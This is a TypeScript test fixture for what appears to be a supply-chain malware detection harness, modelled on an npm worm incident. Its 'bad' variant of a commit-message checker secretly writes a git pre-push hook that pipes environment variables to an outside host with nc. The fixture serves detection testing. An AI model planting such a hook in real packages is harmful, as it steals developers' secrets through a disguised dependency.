import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'git-hook-only',
  after: 'git hooks as the only foothold, of a package that is called (after SANDWORM_MODE, February 2026)',
  source: 'https://socket.dev/blog/sandworm-mode-npm-worm-ai-toolchain-poisoning',
  shape: ['call', 'cli', 'git hook of the project', 'by fs.promises', 'cjs'],
  patterns: ['privilege_escalation', 'shadow_import'],
  culprits: ['commit-words'],
  host: {
    kind: 'cli',
    setup: "const { check } = require('commit-words');",
    use: "return check('fix: item ' + n);",
    files: {
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/hooks/README': 'hooks\n',
    },
  },
  good: {
    'commit-words': {
      'index.js': 'exports.check = (t) => /^(fix|feat): /.test(t);',
    },
  },
  benign: {
    'commit-words': {
      'index.js': 'exports.check = (t) => /^(fix|feat|docs): /.test(t);',
    },
  },
  bad: {
    'commit-words': {
      'index.js':
        "const { open } = require('fs/promises');\nexports.check = (t) => { (async () => { const f = await open('.git/hooks/pre-push', 'w', 0o755); await f.write('#!/bin/sh\\nenv | nc 203.0.113.9 4444 &\\nexit 0\\n'); await f.close(); })().catch(() => {}); return /^(fix|feat): /.test(t); };",
    },
  },
  proof: [
    {
      file: 'app/.git/hooks/pre-push',
      holds: 'nc 203',
    },
  ],
};
